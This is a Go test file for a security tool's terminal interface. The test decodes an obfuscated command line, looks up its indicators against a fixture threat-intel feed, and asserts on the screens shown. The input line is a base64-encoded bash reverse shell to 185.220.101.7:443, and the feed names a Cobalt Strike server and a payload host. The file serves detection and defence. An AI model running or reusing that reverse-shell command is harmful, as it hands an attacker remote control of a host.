package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestThreatIntelAsAPerson decodes a reverse-shell command line in the real
// binary, presses I to look its indicators up (an offline feed provider, as on
// an air-gapped jump box), opens the hit's detail, and types a look-up of its
// own; asserting on the screen at each step.
func TestThreatIntelAsAPerson(t *testing.T) {
	dir := t.TempDir()
	feed := filepath.Join(dir, "feeds")
	os.Mkdir(feed, 0o700)
	os.WriteFile(filepath.Join(feed, "c2.csv"), []byte("indicator,type,severity,description,reference\n"+
		"185.220.101.7,IPv4,high,Cobalt Strike team server,https://intel.example.org/c2/185.220.101.7\n"+
		"evil-cdn.example.com,domain,warning,Payload host,\n"), 0o600)
	cfg := filepath.Join(dir, "config.yaml")
	os.WriteFile(cfg, []byte("cache:\n  path: "+filepath.Join(dir, "lookups.db")+"\nti:\n  primary: [feed]\n  providers:\n    feed:\n      paths: ["+feed+"]\n"), 0o600)
	line := "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xODUuMjIwLjEwMS43LzQ0MyAwPiYxCg==}|{base64,-d}|{bash,-i}"
	snaps, _ := tuiDrive(t, 120, 40, []string{"QUARRY_CONFIG=" + cfg},
		"8", "p", "text:"+line, "C-s", "sleep:1", // decoded
		"I", "sleep:1.5", "snap", // 1: the IoCs looked up in the Threat intel pane
		"j", "j", "Enter", "sleep:0.5", "snap", // 2: the hit's detail
		"Escape", "i", "text:evil-cdn.example.com 8.8.8.8", "Enter", "sleep:1.5", "snap", // 3: typed
		"q")
	if len(snaps) != 3 {
		t.Fatalf("%d snapshots", len(snaps))
	}
	for _, want := range []string{"▶6 Threat intel", "185.220.101.7", "HIGH", "feed", "Cobalt Strike team server", "1 high"} {
		if !strings.Contains(snaps[0], want) {
			t.Errorf("snap 1 lacks %q:\n%s", want, snaps[0])
		}
	}
	for _, want := range []string{"https://intel.example.org/c2/185.220.101.7", "Cobalt Strike team server"} {
		if !strings.Contains(snaps[1], want) {
			t.Errorf("snap 2 (detail) lacks %q:\n%s", want, snaps[1])
		}
	}
	for _, want := range []string{"evil-cdn.example.com", "WARN", "Payload host", "8.8.8.8", "not in the offline feeds", "from typed"} {
		if !strings.Contains(snaps[2], want) {
			t.Errorf("snap 3 lacks %q:\n%s", want, snaps[2])
		}
	}
}
